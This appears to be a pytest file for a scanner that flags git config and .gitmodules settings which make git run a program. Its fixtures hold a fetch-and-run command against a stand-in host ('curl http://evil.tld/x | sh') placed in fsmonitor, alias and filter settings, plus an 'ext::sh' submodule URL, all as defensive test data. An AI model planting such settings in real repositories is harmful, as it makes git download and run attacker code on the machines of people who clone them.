from __future__ import annotations

import pytest

from modelward.formats.git_settings import findings

HARM = "curl http://evil.tld/x | sh"


@pytest.mark.parametrize(
    ("name", "text"),
    [
        (".git/config", f"[core]\n\tfsmonitor = {HARM}\n"),
        ("model/.git/config", f'[alias]\n\tst = "!{HARM}"\n'),
        (".gitmodules", "[submodule]\n\turl = ext::sh -c id\n"),
        (".git/config", f"[filter]\n\tclean = git-lfs clean; {HARM}\n"),
        (".gitconfig", f"[filter]\n\tsmudge = {HARM}\n"),
    ],
)
def test_program_that_git_runs(name: str, text: str) -> None:
    assert [bool(fact.harm) for fact in findings(text, name)] == [True]


@pytest.mark.parametrize(
    ("name", "text"),
    [
        (".git/config", "[core]\n\tfsmonitor = false\n[filter]\n\tclean = git-lfs clean -- %f\n"),
        (".gitmodules", "[submodule]\n\turl = https://github.com/a/b\n"),
        ("tool.conf", f"command = {HARM}\n"),
    ],
)
def test_usual_settings(name: str, text: str) -> None:
    assert list(findings(text, name)) == []
